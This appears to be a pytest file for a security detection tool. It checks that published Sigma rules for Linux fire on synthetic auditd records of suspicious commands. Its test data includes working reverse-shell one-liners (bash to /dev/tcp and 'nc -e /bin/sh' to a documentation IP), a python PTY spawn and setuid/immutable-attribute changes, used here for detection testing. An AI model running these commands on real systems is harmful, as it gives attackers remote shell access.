"""Published rules for Linux over audit records: as process_creation, and as auditd."""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest

from tests.parse.audit_lines import execution
from tests.parse.reading import read
from tocsin.detect.sigma.ruleset import RuleSet
from tocsin.settings.sigma.load import load_event_rules

FIRE = [
    (["base64", "-d", "/tmp/x"], "/usr/bin/base64", "Decode Base64 Encoded Text"),
    (["/bin/bash", "-i", ">&", "/dev/tcp/198.51.100.7/4444"], "/bin/bash", "Bash Interactive Shell"),
    (["whoami"], "/usr/bin/whoami", "System Owner or User Discovery - Linux"),
    (["chattr", "-i", "/etc/x"], "/usr/bin/chattr", "Remove Immutable File Attribute - Auditd"),
    (["chattr", "-i", "/etc/x"], "/usr/bin/chattr", "Remove Immutable File Attribute"),
    (["python3", "-c", "import pty;pty.spawn('/bin/bash')"], "/usr/bin/python3",
     "Python Spawning Pretty TTY Via PTY Module"),
    (["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], "/usr/bin/nc", "Potential Netcat Reverse Shell Execution"),
    (["crontab", "/tmp/job"], "/usr/bin/crontab", "Scheduled Cron Task/Job - Linux"),
    (["chmod", "u+s", "/tmp/x"], "/usr/bin/chmod", "File or Folder Permissions Change"),
]  # fmt: skip


@pytest.fixture(scope="module")
def published(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
    """Return the published rules for Linux."""
    folder = tmp_path_factory.mktemp("sigma")
    with tarfile.open(shared_data / "sigma" / "rules.tar.gz") as archive:
        for member in archive:
            content = archive.extractfile(member) if "/linux/" in member.name else None
            if content is not None:
                path = folder / member.name
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes(content.read())
    return RuleSet(load_event_rules([folder]).rules)


@pytest.mark.parametrize(("arguments", "exe", "title"), FIRE)
def test_a_published_rule_fires_on_audit_records(
    published: RuleSet, arguments: list[str], exe: str, title: str
) -> None:
    (event,) = read("".join(execution(arguments, exe=exe)).encode())

    assert title in [hit.rule.title for hit in published.match(event)]


def test_an_ordinary_command_fires_nothing(published: RuleSet) -> None:
    (event,) = read("".join(execution(["sleep", "5"], exe="/usr/bin/sleep")).encode())

    assert published.match(event) == ()


def test_a_system_call_that_starts_nothing_is_no_process_creation(published: RuleSet) -> None:
    lines = execution(["nmap"], exe="/usr/bin/nmap")[:1]
    line = (
        lines[0]
        .replace("syscall=59", "syscall=41")
        .replace('exe="/usr/bin/nmap"', 'exe="/usr/bin/crontab"')
    )

    (event,) = read(line.encode())

    assert event["event.action"] == "syscall"
    assert [hit.rule.logsource.category for hit in published.match(event)] == []
